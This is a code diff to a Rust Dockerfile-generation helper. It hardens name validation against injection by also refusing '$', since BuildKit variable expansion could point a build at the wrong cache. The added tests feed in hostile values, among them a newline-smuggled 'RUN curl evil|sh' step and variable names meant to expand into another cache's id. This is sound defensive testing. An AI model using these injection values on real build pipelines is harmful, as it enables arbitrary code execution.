@@ -56,9 +56,12 @@ pub struct HelperBuild<'a> {
 
 /// Refuses recorded names that a helper build's Dockerfile cannot carry as they are: they are
 /// hostile, and none may end the `--mount` option (a comma, a quote), the flag (whitespace: the
-/// rest would run as the step's command) or the line (a line break or a continuation).
+/// rest would run as the step's command) or the line (a line break or a continuation), and
+/// none may name a variable (`$`): BuildKit expands them in mount options and `FROM`, so the
+/// helper would mount another cache than the one named.
 pub fn check_helper_names(mount_id: &str, from: &str, base: &str) -> Result<(), RemoteError> {
-    let breaks = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\\' | '"' | '\'');
+    let breaks =
+        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\\' | '"' | '\'' | '$');
     if mount_id.is_empty()
         || mount_id.contains(breaks)
         || mount_id.contains(',')
@@ -632,12 +635,18 @@ mod injection_tests {
     use super::*;
 
     /// A recorded mount id, `from` or base image that would end the mount option or the
-    /// Dockerfile line is refused before any build runs.
+    /// Dockerfile line, or name a variable BuildKit would expand into another cache's id, is
+    /// refused before any build runs.
     #[tokio::test]
     async fn hostile_names_never_reach_the_dockerfile() {
         let evil_from = MountUse {
             id: "pip".into(),
             from: Some("x\nRUN curl evil|sh".into()),
+            ..MountUse::default()
+        };
+        let var_from = MountUse {
+            id: "pip".into(),
+            from: Some("$img".into()),
             ..MountUse::default()
         };
         for (mount_id, base, uses) in [
@@ -646,6 +655,10 @@ mod injection_tests {
             ("pip echo planted; true", "busybox", None),
             ("pip\\", "busybox", None),
             ("pip", "busybox\nRUN evil", None),
+            ("${CACHEWARDEN_NONCE}", "busybox", None),
+            ("pip$x", "busybox", None),
+            ("pip", "$base", None),
+            ("pip", "busybox", Some(&var_from)),
             ("pip", "busybox", Some(&evil_from)),
         ] {
             let helper = HelperBuild {
